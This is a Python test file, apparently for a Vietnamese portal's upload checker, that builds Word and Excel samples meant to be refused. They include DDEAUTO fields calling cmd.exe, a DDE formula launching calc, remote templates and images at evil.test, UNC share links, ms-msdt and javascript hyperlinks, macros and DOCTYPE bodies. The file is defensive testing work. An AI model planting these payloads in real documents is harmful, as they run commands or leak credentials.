"""Word and Excel files that act or fetch when they are opened, and ordinary ones, which pass."""

import io
import zipfile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

from plans.importing.parsing import DocumentRefused, parse
from portal.lib.contents.active_parts import refuse_active
from portal.lib.errors import RuleViolation
from portal.lib.uploads import check_upload
from tests.lib.hostile import office
from tests.plans.importing.parsing.samples import word_plan

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCTYPE = '<!DOCTYPE x [<!ENTITY a "b">]><x/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return f"<Relationships>{one}</Relationships>".encode()


def of_document(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    return office(**{"word___rels__document.xml.rels": relation(kind, target, mode)})


def in_fields(*runs: str) -> bytes:
    marks = ['<w:fldChar w:fldCharType="begin"/>', *(f"<w:instrText>{run}</w:instrText>" for run in runs)]
    marks.append('<w:fldChar w:fldCharType="end"/>')
    return f"<w:p {W}>{''.join(f'<w:r>{mark}</w:r>' for mark in marks)}</w:p>".encode()


def formula(text: str) -> bytes:
    sheet = f"<worksheet><c><f>{text}</f></c></worksheet>".encode()
    return office("xl/workbook.xml", **{"xl__worksheets__sheet1.xml": sheet})


def typed(media_type: str) -> bytes:
    types = f'<Types><Override PartName="/word/x.dat" ContentType="{media_type}"/></Types>'.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in (("[Content_Types].xml", types), ("word/document.xml", b"<x/>"), ("word/x.dat", b"x")):
            package.writestr(name, content)
    return out.getvalue()


HOSTILE = {
    "UTF-16": (office(body=DOCTYPE.encode("utf-16")), "DOCTYPE"),
    "UTF-16 without mark": (office(body=DOCTYPE.encode("utf-16-le")), "bảng mã lạ"),
    "UTF-32": (office(body=DOCTYPE.encode("utf-32")), "bảng mã lạ"),
    "UTF-7": (office(body=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'), "bảng mã lạ"),
    "EBCDIC": (office(body=DOCTYPE.encode("cp037")), "bảng mã lạ"),
    "another code page": (office(body=b"<?xml version='1.0' encoding = 'windows-1258'?><x/>"), "bảng mã lạ"),
    "in another part": (office(**{"docProps__app.xml": DOCTYPE.encode("utf-16")}), "docProps/app.xml"),
    "macro": (office(**{"word__vbaProject.bin": b"x"}), "macro (phần word/vbaProject.bin)"),
    "macro of another name": (typed("application/vnd.ms-office.vbaProject"), "macro"),
    "macro document": (typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    "old macro sheet": (office("xl/workbook.xml", **{"xl__macrosheets__sheet1.xml": b"<x/>"}), "macro"),
    "ActiveX": (office(**{"word__activeX__activeX1.bin": b"x"}), "ActiveX"),
    "control": (of_document("control", "x.xml", ""), "ActiveX"),
    "OLE object": (office(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf"}), "đối tượng OLE"),
    "OLE relation": (of_document("oleObject", "media/a.bin", ""), "đối tượng OLE"),
    "OLE link": (of_document("oleObject", "file:///\\\\evil\\a.xlsx"), "đối tượng OLE"),
    "embedded file": (office(**{"word__embeddings__a.docx": b"x"}), "tệp nhúng (phần word/embeddings/a.docx)"),
    "embedded package": (of_document("package", "embeddings/a.xlsx", ""), "tệp nhúng"),
    "embedded page": (of_document("aFChunk", "a.html", ""), "tệp nhúng"),
    "template elsewhere": (of_document("attachedTemplate", "http://evil.test/a.dotm"), "mẫu văn bản ở nơi khác"),
    "template of a share": (of_document("attachedTemplate", "file:///\\\\evil\\a.dotm"), "mẫu văn bản ở nơi khác"),
    "remote image": (of_document("image", "http://evil.test/a.png"), "ảnh lấy từ nơi khác"),
    "frame": (of_document("frame", "http://evil.test/"), "khung lấy từ nơi khác"),
    "unknown relation": (of_document("anything", "http://evil.test/"), "liên kết tới nơi khác"),
    "link to a program": (of_document("hyperlink", "ms-msdt:/id x"), "đường dẫn chạy chương trình"),
    "link to a script": (of_document("hyperlink", "javascript:alert(1)"), "đường dẫn chạy chương trình"),
    "workbook elsewhere": (office("xl/workbook.xml", **{"xl__externalLinks__a.xml": b"<x/>"}), "liên kết tới tệp khác"),
    "DDE in pieces": (office(body=in_fields(" DD", "EAUTO ", "c:\\\\cmd.exe")), "trường DDEAUTO"),
    "DDE of no end": (office(body=in_fields("DDE x").replace(b'"end"', b'"x"')), "trường DDE"),
    "DDE in a nested field": (office(body=in_fields("IF ").replace(b"</w:p>", in_fields("DDE x") + b"</w:p>")), "DDE"),
    "simple field": (office(body=f'<w:p {W}><w:fldSimple w:instr=" dde a b"/></w:p>'.encode()), "trường DDE"),
    "picture by field": (office(body=in_fields('INCLUDEPICTURE "http://evil.test/a.png"')), "INCLUDEPICTURE"),
    "field in UTF-16": (office(body=in_fields("DDE x").decode().encode("utf-16")), "trường DDE"),
    "DDE formula": (formula("cmd|' /C calc'!A0"), "công thức gọi ra ngoài"),
    "service formula": (formula("_xlfn.WEBSERVICE(&quot;http://evil.test&quot;)"), "công thức gọi ra ngoài"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_acts_or_fetches_is_refused_with_its_part_and_a_way(name):
    content, word = HOSTILE[name]

    with pytest.raises(RuleViolation) as refusal, zipfile.ZipFile(io.BytesIO(content)) as package:
        refuse_active(package)

    assert word in refusal.value.message
    assert "Hãy " in refusal.value.message or "Trong Excel" in refusal.value.message


def with_links() -> bytes:
    document = docx.Document()
    document.add_paragraph("Xem dangcongsan.vn")
    for target in ("https://dangcongsan.vn/a?b=1:2", "mailto:vp@khukinhte.test", "#muc-1", "phu-luc.docx"):
        document.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.part.relate_to("file:///C:\\Mau\\cong-van.dotx", f"{OFFICE}/attachedTemplate", is_external=True)
    return saved(document)


def saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def workbook() -> bytes:
    book = Workbook()
    for row in ([1, 2], [3, 4]):
        book.active.append(row)
    book.active["C1"] = '=IF(A1>1,"a|b",SUM(A1:B2))'
    book.active["C2"] = "https://dangcongsan.vn"
    book.active["C2"].hyperlink = "https://dangcongsan.vn"
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=1, min_row=1, max_col=1, max_row=2))
    book.active.add_chart(chart, "E1")
    return saved(book)


def with_chart_data(data: bytes) -> bytes:
    """A chart in Word keeps its numbers in a workbook of its own."""
    rels = relation("package", "../embeddings/Microsoft_Excel_Sheet.xlsx", "")
    parts = {"word__charts__chart1.xml": b"<x/>", "word__embeddings__Microsoft_Excel_Sheet.xlsx": data}
    return office(**parts, **{"word__charts___rels__chart1.xml.rels": rels})


HARMLESS = {
    "a plan": word_plan,
    "links": with_links,
    "workbook with a chart": workbook,
    "chart with its numbers": lambda: with_chart_data(workbook()),
    "page numbers": lambda: office(body=in_fields("PAGE  \\* MERGEFORMAT")),
    "UTF-16 well declared": lambda: office(body='<?xml version="1.0" encoding="UTF-16"?><x/>'.encode("utf-16")),
    "UTF-8 with its mark": lambda: office(body=b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?><x/>"),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_an_ordinary_file_passes(name):
    with zipfile.ZipFile(io.BytesIO(HARMLESS[name]())) as package:
        refuse_active(package)


@pytest.mark.parametrize(
    "data",
    [b"MZ", office("xl/workbook.xml", **{"xl__vbaProject.bin": b"x"}), with_chart_data(b"PK")],
)
def test_the_numbers_of_a_chart_are_judged_too(data):
    with pytest.raises(RuleViolation), zipfile.ZipFile(io.BytesIO(with_chart_data(data))) as package:
        refuse_active(package)


def test_every_door_refuses():
    document, book = HOSTILE["DDE in pieces"][0], HOSTILE["DDE formula"][0]

    with pytest.raises(RuleViolation, match=r"Tệp “a\.docx”: tệp có trường DDEAUTO"):
        check_upload("a.docx", document)
    with pytest.raises(RuleViolation, match=r"Tệp “a\.xlsx”: tệp có công thức gọi ra ngoài"):
        check_upload("a.xlsx", book)
    with pytest.raises(DocumentRefused, match=r"^Tệp có trường DDEAUTO"):
        parse(document, name="a.docx")


def test_ordinary_files_pass_the_doors():
    assert check_upload("a.docx", with_links()).ending == "docx"
    assert check_upload("a.xlsx", workbook()).ending == "xlsx"
